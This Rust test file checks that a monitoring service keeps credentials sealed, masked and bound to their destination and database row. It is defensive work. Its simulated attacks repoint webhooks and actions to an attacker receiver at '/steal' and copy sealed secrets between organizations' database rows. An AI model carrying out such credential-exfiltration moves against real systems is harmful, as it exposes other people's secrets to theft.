//! Secrets: stored credentials (a webhook provider's signing secret and headers, an HTTP
//! monitor's token, an HTTP_POST action's `Authorization` header) are sealed at rest, shown
//! masked to every role, and never follow a changed destination: an editor who points one of
//! them at a server of their own, sending the masked values back or leaving them out, is
//! refused and changes nothing, and the attacker's server receives nothing.
//!
//! A sealed value is bound to its row and field: copied elsewhere in the database (another
//! organization's secret, an action that posts to the attacker), it does not open. Values
//! sealed the old, unbound way are resealed once at start-up, and refused after that.

use sea_orm::sea_query::Expr;
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
use serde_json::{Value, json};
use vigil_tests::receivers::Receiver;
use vigil_tests::{TestApp, TestUser, backends};

const ADMIN_TOKEN: &str = "admin-bearer-token-0123456789";
const SIGNING: &str = "admin-signing-secret-42";

struct Scene {
    app: TestApp,
    owner: TestUser,
    editor: TestUser,
    viewer: TestUser,
    project: String,
    legit: Receiver,
    evil: Receiver,
}

async fn scene(backend: &vigil_tests::Backend) -> Scene {
    let app = TestApp::spawn(backend).await;
    let owner = app.sign_up("owner@example.com").await;
    let (org, project) = app.create_org(&owner, "Acme").await;
    let editor = app
        .member(
            &owner,
            &org,
            &project,
            "editor@example.com",
            "PROJECT_EDITOR",
        )
        .await;
    let viewer = app
        .member(
            &owner,
            &org,
            &project,
            "viewer@example.com",
            "PROJECT_VIEWER",
        )
        .await;
    Scene {
        app,
        owner,
        editor,
        viewer,
        project,
        legit: Receiver::start().await,
        evil: Receiver::start().await,
    }
}

/// `path` of the JSON `value`, as a string.
fn at<'a>(value: &'a Value, path: &[&str]) -> &'a Value {
    path.iter().fold(value, |v, key| &v[*key])
}

#[tokio::test]
async fn a_webhook_providers_secrets_do_not_follow_a_new_url() {
    for backend in backends() {
        let s = scene(&backend).await;
        let created = s
            .app
            .gql(
                Some(&s.owner.token),
                "mutation($i: CreateNotificationProviderInput!) { createNotificationProvider(input: $i) { id config } }",
                json!({ "i": { "projectId": s.project, "name": "ops", "type": "WEBHOOK", "config": {
                    "url": s.legit.url("/hook"), "secret": SIGNING,
                    "headers": { "Authorization": format!("Bearer {ADMIN_TOKEN}") } } } }),
            )
            .await
            .ok();
        let id = created["createNotificationProvider"]["id"]
            .as_str()
            .expect("id");
        let shown = s
            .app
            .gql(
                Some(&s.editor.token),
                "query($id: ID!) { notificationProvider(id: $id) { config } }",
                json!({ "id": id }),
            )
            .await
            .ok()["notificationProvider"]["config"]
            .clone();
        assert!(!shown.to_string().contains(ADMIN_TOKEN) && !shown.to_string().contains(SIGNING));
        let before = s.app.count("audit_logs").await;
        let update = "mutation($id: ID!, $i: UpdateNotificationProviderInput!) { updateNotificationProvider(id: $id, input: $i) { id } }";
        let evil_url = s.evil.url("/steal");
        for config in [
            // The masked values sent back, as the web app's form does.
            json!({ "url": evil_url, "secret": shown["secret"], "headers": shown["headers"] }),
            // Left out: they would stay on the provider.
            json!({ "url": evil_url }),
            json!({ "url": evil_url, "secret": null }),
            // Same host, another port or scheme: another origin.
            json!({ "url": s.legit.url("/hook").replace("http://", "https://"), "secret": shown["secret"], "headers": shown["headers"] }),
        ] {
            s.app
                .gql(
                    Some(&s.editor.token),
                    update,
                    json!({ "id": id, "i": { "config": config } }),
                )
                .await
                .expect_code("BAD_USER_INPUT");
        }
        assert_eq!(s.app.count("audit_logs").await, before, "nothing changed");
        // The same origin keeps them; the provider still reaches the admin's server only.
        s.app
            .gql(
                Some(&s.editor.token),
                update,
                json!({ "id": id, "i": { "config": { "url": s.legit.url("/hook2"), "secret": shown["secret"], "headers": shown["headers"] } } }),
            )
            .await
            .ok();
        let tested = s
            .app
            .gql(
                Some(&s.editor.token),
                "mutation($id: ID!) { testNotificationProvider(id: $id) { success error } }",
                json!({ "id": id }),
            )
            .await
            .ok();
        assert_eq!(
            tested["testNotificationProvider"]["success"], true,
            "{tested}"
        );
        let got = s.legit.wait_for(1).await;
        assert_eq!(
            got[0].header("authorization"),
            Some(format!("Bearer {ADMIN_TOKEN}").as_str())
        );
        assert!(
            s.evil.requests().is_empty(),
            "the attacker's server got a request"
        );
        s.app.stop().await;
    }
}

#[tokio::test]
async fn an_http_monitors_credentials_do_not_follow_a_new_target() {
    for backend in backends() {
        let s = scene(&backend).await;
        let created = s
            .app
            .gql(
                Some(&s.owner.token),
                "mutation($i: CreateMonitorInput!) { createMonitor(input: $i) { id config } }",
                json!({ "i": { "projectId": s.project, "name": "api", "type": "HTTP", "target": s.legit.url("/health"),
                    "http": { "auth": { "type": "BEARER", "token": ADMIN_TOKEN },
                              "headers": [{ "name": "X-Api-Key", "value": SIGNING }] } } }),
            )
            .await
            .ok();
        let id = created["createMonitor"]["id"].as_str().expect("id");
        let shown = created["createMonitor"]["config"].clone();
        assert!(!shown.to_string().contains(ADMIN_TOKEN) && !shown.to_string().contains(SIGNING));
        let update = "mutation($id: ID!, $i: UpdateMonitorInput!) { updateMonitor(id: $id, input: $i) { id } }";
        let masked_http = json!({ "auth": { "type": "BEARER", "token": at(&shown, &["http", "auth", "token"]) },
            "headers": [{ "name": "X-Api-Key", "value": "********" }] });
        let before = s.app.count("audit_logs").await;
        for input in [
            json!({ "target": s.evil.url("/steal"), "http": masked_http }),
            json!({ "target": s.evil.url("/steal") }),
        ] {
            s.app
                .gql(
                    Some(&s.editor.token),
                    update,
                    json!({ "id": id, "i": input }),
                )
                .await
                .expect_code("BAD_USER_INPUT");
        }
        assert_eq!(s.app.count("audit_logs").await, before, "nothing changed");
        let row = <entity::monitors::Entity as sea_orm::EntityTrait>::find_by_id(
            uuid::Uuid::parse_str(id).expect("uuid"),
        )
        .one(s.app.db())
        .await
        .expect("db")
        .expect("monitor");
        assert_eq!(row.target, s.legit.url("/health"));
        // New credentials for the new target are the editor's own: accepted.
        s.app
            .gql(
                Some(&s.editor.token),
                update,
                json!({ "id": id, "i": { "target": s.evil.url("/mine"), "http": { "auth": { "type": "BEARER", "token": "editors-own-token" } } } }),
            )
            .await
            .ok();
        s.app.stop().await;
    }
}

#[tokio::test]
async fn http_post_action_headers_are_sealed_masked_and_stay_with_their_url() {
    for backend in backends() {
        let s = scene(&backend).await;
        let callback = s
            .app
            .gql(
                Some(&s.owner.token),
                "mutation($i: CreateCallbackInput!) { createCallback(input: $i) { id triggerUrl } }",
                json!({ "i": { "projectId": s.project, "name": "hook", "callbackUrl": s.legit.url("/upstream") } }),
            )
            .await
            .ok()["createCallback"]
            .clone();
        let action = s
            .app
            .gql(
                Some(&s.owner.token),
                "mutation($i: CreateActionInput!) { createAction(input: $i) { id config } }",
                json!({ "i": { "callbackId": callback["id"], "type": "HTTP_POST", "config": {
                    "url": s.legit.url("/action"),
                    "headers": { "Authorization": format!("Bearer {ADMIN_TOKEN}"), "X-Team": "ops" } } } }),
            )
            .await
            .ok()["createAction"]
            .clone();
        let id = action["id"].as_str().expect("id");
        // Shown masked to every role; the plain header stays readable.
        for user in [&s.owner, &s.editor, &s.viewer] {
            let read = s
                .app
                .gql(
                    Some(&user.token),
                    "query($id: ID!) { callback(id: $id) { actions { config } } }",
                    json!({ "id": callback["id"] }),
                )
                .await
                .ok();
            let config = &read["callback"]["actions"][0]["config"];
            assert_eq!(config["headers"]["Authorization"], "********", "{read}");
            assert_eq!(config["headers"]["X-Team"], "ops");
        }
        // Sealed at rest.
        let row = <entity::actions::Entity as sea_orm::EntityTrait>::find_by_id(
            uuid::Uuid::parse_str(id).expect("uuid"),
        )
        .one(s.app.db())
        .await
        .expect("db")
        .expect("action");
        let stored = row.config["headers"]["Authorization"]
            .as_str()
            .expect("stored");
        assert!(
            stored.starts_with("v2:") && !stored.contains(ADMIN_TOKEN),
            "{stored}"
        );

        // Pointed elsewhere with the masked value: refused, nothing changes.
        let update = "mutation($id: ID!, $i: UpdateActionInput!) { updateAction(id: $id, input: $i) { id } }";
        s.app
            .gql(
                Some(&s.editor.token),
                update,
                json!({ "id": id, "i": { "config": { "url": s.evil.url("/steal"),
                    "headers": { "Authorization": "********", "X-Team": "ops" } } } }),
            )
            .await
            .expect_code("BAD_USER_INPUT");
        // The same URL keeps it, and the request carries it in clear.
        s.app
            .gql(
                Some(&s.editor.token),
                update,
                json!({ "id": id, "i": { "config": { "url": s.legit.url("/action"),
                    "headers": { "Authorization": "********", "X-Team": "sre" } } } }),
            )
            .await
            .ok();
        let path = callback["triggerUrl"]
            .as_str()
            .expect("url")
            .split_once("/t/")
            .expect("t")
            .1
            .to_owned();
        let response = s
            .app
            .http
            .post(format!("{}/t/{path}", s.app.url))
            .body("{}")
            .send()
            .await
            .expect("trigger");
        assert_eq!(response.status().as_u16(), 200);
        vigil::callback::action::run_due(s.app.state(), "attack-worker", 10)
            .await
            .expect("actions");
        let got = s.legit.requests();
        let sent = got
            .iter()
            .find(|r| r.path == "/action")
            .expect("the action ran");
        assert_eq!(
            sent.header("authorization"),
            Some(format!("Bearer {ADMIN_TOKEN}").as_str())
        );
        assert_eq!(sent.header("x-team"), Some("sre"));
        assert!(s.evil.requests().is_empty());
        s.app.stop().await;
    }
}

// ---------------------------------------------------------------------------------------------
// Sealed values moved by someone who can write the database but has no master key (a backup
// restored by a hostile operator, an SQL injection elsewhere, a compromised replica).

/// A secret variable of `project`, created through the API.
async fn secret_variable(
    app: &TestApp,
    user: &TestUser,
    project: &str,
    key: &str,
    value: &str,
) -> uuid::Uuid {
    let created = app
        .gql(
            Some(&user.token),
            "mutation($i: CreateProjectVariableInput!) { createProjectVariable(input: $i) { id } }",
            json!({ "i": { "projectId": project, "key": key, "value": value, "isSecret": true } }),
        )
        .await
        .ok();
    uuid(&created["createProjectVariable"]["id"])
}

/// A callback of `project` (forwarding to `{url}-upstream`) with one HTTP_POST action to `url`
/// sending `headers`: the path of its trigger URL and the action's id.
async fn http_post_action(
    app: &TestApp,
    user: &TestUser,
    project: &str,
    url: &str,
    headers: Value,
) -> (String, uuid::Uuid) {
    let callback = app
        .gql(
            Some(&user.token),
            "mutation($i: CreateCallbackInput!) { createCallback(input: $i) { id triggerUrl } }",
            json!({ "i": { "projectId": project, "name": "hook", "callbackUrl": format!("{url}-upstream") } }),
        )
        .await
        .ok()["createCallback"]
        .clone();
    let action = app
        .gql(
            Some(&user.token),
            "mutation($i: CreateActionInput!) { createAction(input: $i) { id } }",
            json!({ "i": { "callbackId": callback["id"], "type": "HTTP_POST",
                "config": { "url": url, "headers": headers } } }),
        )
        .await
        .ok();
    let path = callback["triggerUrl"]
        .as_str()
        .and_then(|u| u.split_once("/t/"))
        .expect("a trigger URL")
        .1
        .to_owned();
    (path, uuid(&action["createAction"]["id"]))
}

fn uuid(id: &Value) -> uuid::Uuid {
    uuid::Uuid::parse_str(id.as_str().expect("an id")).expect("a uuid")
}

async fn variable_row(
    db: &sea_orm::DatabaseConnection,
    id: uuid::Uuid,
) -> entity::project_variables::Model {
    entity::project_variables::Entity::find_by_id(id)
        .one(db)
        .await
        .expect("db")
        .expect("variable")
}

async fn action_row(db: &sea_orm::DatabaseConnection, id: uuid::Uuid) -> entity::actions::Model {
    entity::actions::Entity::find_by_id(id)
        .one(db)
        .await
        .expect("db")
        .expect("action")
}

/// Writes a variable's sealed value straight into the database.
async fn write_variable(db: &sea_orm::DatabaseConnection, id: uuid::Uuid, sealed: &str) {
    use entity::project_variables::{Column, Entity};
    Entity::update_many()
        .col_expr(Column::EncryptedValue, Expr::value(sealed))
        .filter(Column::Id.eq(id))
        .exec(db)
        .await
        .expect("update");
}

/// Writes an action's config straight into the database.
async fn write_action(db: &sea_orm::DatabaseConnection, id: uuid::Uuid, config: Value) {
    use entity::actions::{Column, Entity};
    Entity::update_many()
        .col_expr(Column::Config, Expr::value(config))
        .filter(Column::Id.eq(id))
        .exec(db)
        .await
        .expect("update");
}

/// Triggers the callback at `path` on the server at `url` and runs its actions.
async fn trigger(
    app_url: &str,
    http: &reqwest::Client,
    state: &vigil::state::AppState,
    path: &str,
) {
    let response = http
        .post(format!("{app_url}/t/{path}"))
        .body("{}")
        .send()
        .await
        .expect("trigger");
    assert_eq!(response.status().as_u16(), 200);
    vigil::callback::action::run_due(state, "attack-worker", 10)
        .await
        .expect("actions");
}

#[tokio::test]
async fn a_sealed_value_copied_into_another_organizations_row_does_not_open_there() {
    for backend in backends() {
        let app = TestApp::spawn(&backend).await;
        let admin = app.sign_up("admin@example.com").await;
        let (_, victim) = app.create_org(&admin, "Victim").await;
        let mallory = app.sign_up("mallory@example.com").await;
        let (_, own) = app.create_org(&mallory, "Mallory").await;

        // An admin's project secret copied over the attacker's own secret: a run of the
        // attacker's project would hand it to the attacker's script.
        let theirs = secret_variable(&app, &admin, &victim, "DB_PASSWORD", ADMIN_TOKEN).await;
        let mine = secret_variable(&app, &mallory, &own, "LOOT", "placeholder").await;
        let sealed = variable_row(app.db(), theirs)
            .await
            .encrypted_value
            .expect("sealed");
        write_variable(app.db(), mine, &sealed).await;
        let own_id = uuid::Uuid::parse_str(&own).expect("uuid");
        match vigil::variable::resolved(app.state(), app.db(), own_id).await {
            Ok(vars) => panic!("[{backend}] the moved secret opened in another project: {vars:?}"),
            Err(err) => {
                let err = format!("{:#}", anyhow::Error::from(err));
                assert!(err.contains("moved") && !err.contains(ADMIN_TOKEN), "{err}");
            }
        }
        // Where it belongs, it still opens.
        let victim_id = uuid::Uuid::parse_str(&victim).expect("uuid");
        let vars = vigil::variable::resolved(app.state(), app.db(), victim_id)
            .await
            .expect("the admin's own secret");
        assert_eq!(
            vars,
            vec![("DB_PASSWORD".to_owned(), ADMIN_TOKEN.to_owned(), true)]
        );

        // An HTTP_POST action's credential header copied into an action that posts to the
        // attacker's server.
        let (legit, evil) = (Receiver::start().await, Receiver::start().await);
        let bearer = format!("Bearer {ADMIN_TOKEN}");
        let (theirs_path, theirs) = http_post_action(
            &app,
            &admin,
            &victim,
            &legit.url("/hook"),
            json!({ "Authorization": bearer }),
        )
        .await;
        let (mine_path, mine) = http_post_action(
            &app,
            &mallory,
            &own,
            &evil.url("/steal"),
            json!({ "Authorization": "Bearer placeholder" }),
        )
        .await;
        let sealed = action_row(app.db(), theirs).await.config["headers"]["Authorization"].clone();
        let mut config = action_row(app.db(), mine).await.config;
        config["headers"]["Authorization"] = sealed;
        write_action(app.db(), mine, config).await;
        trigger(&app.url, &app.http, app.state(), &mine_path).await;
        assert!(
            evil.requests()
                .iter()
                .all(|r| r.header("authorization") != Some(bearer.as_str())),
            "[{backend}] the attacker's server got the admin's token"
        );
        trigger(&app.url, &app.http, app.state(), &theirs_path).await;
        assert_eq!(
            legit
                .requests()
                .iter()
                .find(|r| r.path == "/hook")
                .and_then(|r| r.header("authorization")),
            Some(bearer.as_str()),
            "[{backend}] the admin's own action still sends it"
        );
        app.stop().await;
    }
}

#[tokio::test]
async fn values_sealed_the_old_way_are_resealed_once_at_start_up() {
    for backend in backends() {
        let app = TestApp::spawn(&backend).await;
        let admin = app.sign_up("admin@example.com").await;
        let (_, project) = app.create_org(&admin, "Acme").await;
        let project_id = uuid::Uuid::parse_str(&project).expect("uuid");
        let variable = secret_variable(&app, &admin, &project, "DB_PASSWORD", "placeholder").await;
        let receiver = Receiver::start().await;
        let (path, action) = http_post_action(
            &app,
            &admin,
            &project,
            &receiver.url("/hook"),
            json!({ "X-Team": "ops" }),
        )
        .await;
        // Stored the way earlier versions did: a v1 (unbound) secret, a v1 signing secret
        // and a credential header in clear (from before headers were sealed).
        let key = app.state().master_key.clone();
        write_variable(
            app.db(),
            variable,
            &key.seal_unbound(ADMIN_TOKEN).expect("seal"),
        )
        .await;
        let mut config = action_row(app.db(), action).await.config;
        config["headers"]["Authorization"] = format!("Bearer {ADMIN_TOKEN}").into();
        config["secret"] = key.seal_unbound(SIGNING).expect("seal").into();
        write_action(app.db(), action, config).await;
        // The other places secrets live, sealed the old way too.
        let provider = uuid(&app
            .gql(
                Some(&admin.token),
                "mutation($i: CreateNotificationProviderInput!) { createNotificationProvider(input: $i) { id } }",
                json!({ "i": { "projectId": project, "name": "ops", "type": "WEBHOOK",
                    "config": { "url": receiver.url("/provider"), "secret": "placeholder" } } }),
            )
            .await
            .ok()["createNotificationProvider"]["id"]);
        let monitor = uuid(&app
            .gql(
                Some(&admin.token),
                "mutation($i: CreateMonitorInput!) { createMonitor(input: $i) { id } }",
                json!({ "i": { "projectId": project, "name": "api", "type": "HTTP", "target": receiver.url("/health"),
                    "http": { "auth": { "type": "BEARER", "token": "placeholder" } } } }),
            )
            .await
            .ok()["createMonitor"]["id"]);
        let credential = uuid(&app
            .gql(
                Some(&admin.token),
                "mutation($i: CreateServiceCredentialInput!) { createServiceCredential(input: $i) { id } }",
                json!({ "i": { "projectId": project, "name": "generic", "provider": "GENERIC", "secret": "placeholder" } }),
            )
            .await
            .ok()["createServiceCredential"]["id"]);
        let user_id = uuid(&json!(admin.id));
        {
            use entity::{monitors, notification_providers, service_credentials, user};
            let v1 = |plain: &str| key.seal_unbound(plain).expect("seal");
            let config = json!({ "url": receiver.url("/provider"), "secret": v1(SIGNING),
                "headers": { "Authorization": v1(ADMIN_TOKEN) } });
            notification_providers::Entity::update_many()
                .col_expr(notification_providers::Column::Config, Expr::value(config))
                .filter(notification_providers::Column::Id.eq(provider))
                .exec(app.db())
                .await
                .expect("update");
            let row = monitors::Entity::find_by_id(monitor)
                .one(app.db())
                .await
                .expect("db")
                .expect("monitor");
            let mut config = row.config.expect("config");
            config["http"]["auth"]["token"] = v1(ADMIN_TOKEN).into();
            monitors::Entity::update_many()
                .col_expr(monitors::Column::Config, Expr::value(config))
                .filter(monitors::Column::Id.eq(monitor))
                .exec(app.db())
                .await
                .expect("update");
            service_credentials::Entity::update_many()
                .col_expr(
                    service_credentials::Column::Secret,
                    Expr::value(v1(SIGNING)),
                )
                .filter(service_credentials::Column::Id.eq(credential))
                .exec(app.db())
                .await
                .expect("update");
            user::Entity::update_many()
                .col_expr(
                    user::Column::TotpSecret,
                    Expr::value(v1("JBSWY3DPEHPK3PXP")),
                )
                .filter(user::Column::Id.eq(user_id))
                .exec(app.db())
                .await
                .expect("update");
        }
        // As they are, the v1 values are refused, with what to do.
        let err = vigil::variable::resolved(app.state(), app.db(), project_id)
            .await
            .expect_err("a v1 value opened");
        let err = format!("{:#}", anyhow::Error::from(err));
        assert!(err.contains("v1") && err.contains("reseal"), "{err}");

        // A database from before the upgrade (the pass recorded as not run), started again.
        entity::sealed_formats::Entity::delete_many()
            .exec(app.db())
            .await
            .expect("delete");
        let settings = app.state().settings.clone();
        let _data = app.stop_keep_data().await;
        let hasher =
            || vigil::auth::password::PasswordHasher::with_params(1024, 1, 1).expect("hasher");
        let state = vigil::app::build_state_with(settings.clone(), hasher())
            .await
            .expect("restart");
        let stored = variable_row(&state.db, variable)
            .await
            .encrypted_value
            .expect("sealed");
        assert!(stored.starts_with("v2:"), "[{backend}] {stored}");
        assert_eq!(
            vigil::variable::resolved(&state, &state.db, project_id)
                .await
                .expect("resealed secret"),
            vec![("DB_PASSWORD".to_owned(), ADMIN_TOKEN.to_owned(), true)]
        );
        let config = action_row(&state.db, action).await.config;
        for sealed in [&config["headers"]["Authorization"], &config["secret"]] {
            let sealed = sealed.as_str().expect("a string");
            assert!(
                sealed.starts_with("v2:") && !sealed.contains(ADMIN_TOKEN),
                "[{backend}] {sealed}"
            );
        }
        assert_eq!(
            config["headers"]["X-Team"], "ops",
            "other headers stay as they are"
        );
        {
            use entity::{monitors, notification_providers, service_credentials, user};
            let row = notification_providers::Entity::find_by_id(provider)
                .one(&state.db)
                .await
                .expect("db")
                .expect("provider");
            assert!(
                row.config["secret"]
                    .as_str()
                    .is_some_and(|s| s.starts_with("v2:"))
                    && row.config["headers"]["Authorization"]
                        .as_str()
                        .is_some_and(|s| s.starts_with("v2:")),
                "[{backend}] {}",
                row.config
            );
            vigil::notification_provider::channel(&state, &row)
                .await
                .expect("the provider's resealed secrets open");
            let row = monitors::Entity::find_by_id(monitor)
                .one(&state.db)
                .await
                .expect("db")
                .expect("monitor");
            let opened = vigil::monitor::config::MonitorConfig::from_json(row.config.as_ref())
                .open(&state.master_key, row.id)
                .expect("the monitor's resealed token opens");
            assert_eq!(
                opened.http.and_then(|h| h.auth),
                Some(vigil::monitor::config::Auth::Bearer {
                    token: ADMIN_TOKEN.into()
                })
            );
            let row = service_credentials::Entity::find_by_id(credential)
                .one(&state.db)
                .await
                .expect("db")
                .expect("credential");
            assert!(row.secret.starts_with("v2:"), "[{backend}] {}", row.secret);
            assert_eq!(
                vigil::credential::open_secret(&state, &row).expect("opens"),
                SIGNING
            );
            let row = user::Entity::find_by_id(user_id)
                .one(&state.db)
                .await
                .expect("db")
                .expect("user");
            let totp = row.totp_secret.expect("totp");
            assert_eq!(
                state
                    .master_key
                    .open(&totp, &vigil::crypto::Binding::totp(user_id))
                    .expect("opens"),
                "JBSWY3DPEHPK3PXP"
            );
        }
        // The action still sends them, in clear.
        let running = vigil::app::spawn(state).await.expect("serving");
        let http = reqwest::Client::new();
        trigger(&running.url(), &http, &running.state, &path).await;
        let got = receiver.requests();
        let sent = got
            .iter()
            .find(|r| r.path == "/hook")
            .expect("the action ran");
        assert_eq!(
            sent.header("authorization"),
            Some(format!("Bearer {ADMIN_TOKEN}").as_str())
        );
        assert!(sent.header("x-vigil-signature").is_some());

        // Once the pass has run, a v1 value written later is not adopted by the next start.
        write_variable(
            &running.state.db,
            variable,
            &key.seal_unbound("planted").expect("seal"),
        )
        .await;
        running.stop().await.expect("stop");
        let state = vigil::app::build_state_with(settings.clone(), hasher())
            .await
            .expect("restart");
        let stored = variable_row(&state.db, variable)
            .await
            .encrypted_value
            .expect("sealed");
        assert!(stored.starts_with("v1:"), "[{backend}] {stored}");
        assert!(
            vigil::variable::resolved(&state, &state.db, project_id)
                .await
                .is_err()
        );
        // An operator who trusts the database reseals it on purpose (`vigil secrets reseal`);
        // two at once (replicas starting together) reseal each value once.
        let (a, b) = tokio::join!(
            vigil::reseal::reseal_unbound(&state.db, &state.master_key),
            vigil::reseal::reseal_unbound(&state.db, &state.master_key)
        );
        let (a, b) = (a.expect("reseal"), b.expect("reseal"));
        assert_eq!(
            (a.rows + b.rows, a.failed + b.failed),
            (1, 0),
            "[{backend}]"
        );
        assert_eq!(
            vigil::variable::resolved(&state, &state.db, project_id)
                .await
                .expect("resealed"),
            vec![("DB_PASSWORD".to_owned(), "planted".to_owned(), true)]
        );
        state.shutdown.cancel();
        let _ = std::fs::remove_dir_all(&settings.data_dir);
    }
}
